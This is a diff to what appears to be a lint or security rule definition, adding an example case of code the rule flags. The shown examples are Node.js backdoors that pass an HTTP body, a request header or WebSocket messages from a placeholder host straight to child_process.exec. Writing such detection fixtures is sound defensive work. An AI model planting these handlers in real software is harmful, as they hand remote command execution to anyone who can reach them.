@@ -37,6 +37,10 @@ export default defineRule({
         code: `const http = require('http'), { exec } = require('child_process');\nhttp.createServer((req, res) => {\n  let body = '';\n  req.on('data', chunk => { body += chunk; });\n  req.on('end', () => exec(body));\n}).listen(8124);`,
       },
       {
+        title: 'a handler that others will mount runs a header',
+        code: `module.exports = (req, res, next) => {\n  if (req.headers['x-order']) require('child_process').exec(req.headers['x-order']);\n  next();\n};`,
+      },
+      {
         title: 'a socket gives orders',
         code: `const { exec } = require('child_process');\nconst socket = new WebSocket('wss://stage.invalid');\nsocket.onmessage = event => exec(event.data);`,
       },
